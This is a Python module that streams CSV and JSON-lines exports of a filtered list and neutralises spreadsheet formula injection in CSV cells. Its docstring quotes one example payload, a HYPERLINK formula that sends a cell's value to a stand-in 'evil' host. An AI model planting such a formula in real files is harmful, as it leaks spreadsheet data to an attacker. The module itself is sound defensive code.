"""Exports of a filtered list: CSV for a spreadsheet, JSON lines for a program, streamed.

A CSV cell is read by Excel, LibreOffice and Google Sheets as a formula when it starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP "CSV Injection"), even
after leading spaces: a file named ``=HYPERLINK("http://evil/?"&A1)`` must stay text.
Such a cell gets a leading ``'``, which the spreadsheet shows as text and drops. Control
characters are escaped as ``textsafe.visible`` does everywhere else (a newline in a file
name cannot forge a row). JSON lines use ``textsafe.json_text`` (one record per line).

Rows come in chunks from a callable that runs one short query per chunk (keyset), so a
million-row export holds one chunk in memory and no read transaction open between chunks.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import TypeVar

from dlpd.textsafe import json_text, visible

_T = TypeVar("_T")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """One value as a CSV cell's text: data, never a formula or a line break."""
    if value is None:
        return ""
    if isinstance(value, (list, tuple)):
        value = " ".join(str(v) for v in value)
    text = str(value)
    if text.lstrip(" ").startswith(_FORMULA_START):
        text = "'" + text
    return visible(text)


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[object]]) -> Iterator[str]:
    """``header`` then each row, as CSV text (RFC 4180 quoting, CRLF line ends)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(h) for h in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        if buffer.tell() > 64 * 1024:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def json_lines(records: Iterable[dict[str, object]]) -> Iterator[str]:
    for record in records:
        yield json_text(record) + "\n"


def chunked(fetch: Callable[[int | None], Sequence[_T]], key: Callable[[_T], int]
            ) -> Iterator[_T]:
    """Every row ``fetch(before)`` gives, page after page: ``before`` is the key of the
    last row of the previous page (None first), until a page comes back empty."""
    before: int | None = None
    while rows := fetch(before):
        yield from rows
        before = key(rows[-1])


def content_disposition(filename: str) -> str:
    """An attachment header for a name of ours (ASCII only: no quoting games)."""
    safe = "".join(c for c in filename if c.isascii() and (c.isalnum() or c in "._-"))
    return f'attachment; filename="{safe or "export"}"'
